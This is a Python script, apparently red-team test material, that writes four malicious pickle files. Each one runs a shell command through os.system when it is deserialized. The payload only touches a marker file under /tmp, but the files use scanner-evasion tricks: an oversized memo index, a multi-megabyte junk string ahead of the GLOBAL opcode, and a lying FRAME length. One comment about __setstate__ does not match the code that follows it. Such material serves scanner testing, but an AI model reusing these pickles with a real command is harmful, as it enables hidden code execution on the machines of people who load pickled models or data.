import pickle, struct
cmd = lambda t: ("touch /tmp/rt18/pwned_"+t).encode()
def su(s): return b"X"+struct.pack("<I",len(s))+s
# memo index > 2^32 via PUT text; GET it back
open("vm_memo_big.pkl","wb").write(b"cos\nsystem\np4294967297\n0g4294967297\n(" + b"S'"+cmd("vm_memo_big")+b"'\ntR.")
# long line: GLOBAL module preceded by huge junk string
open("vm_longline.pkl","wb").write(b"S'"+b"A"*3_000_000+b"'\n0cos\nsystem\n(S'"+cmd("vm_longline")+b"'\ntR.")
# FRAME length lies (bigger than the rest)
body = b"\x8c\x05posix\x8c\x06system\x93" + b"\x8c"+bytes([len(cmd("vm_framelie"))])+cmd("vm_framelie")+b"\x85R."
open("vm_framelie.pkl","wb").write(b"\x80\x04\x95"+struct.pack("<Q",len(body)+1000)+body)
# PERSID / BINPERSID in plain pickle -> no persistent_load -> error; skip
# state setter via 6-tuple path: BUILD calling __setstate__ of imported class
open("vm_build_setstate.pkl","wb").write(b"\x80\x02cos\nsystem\nq\x00"+su(cmd("vm_build_setstate"))+b"\x85R.")
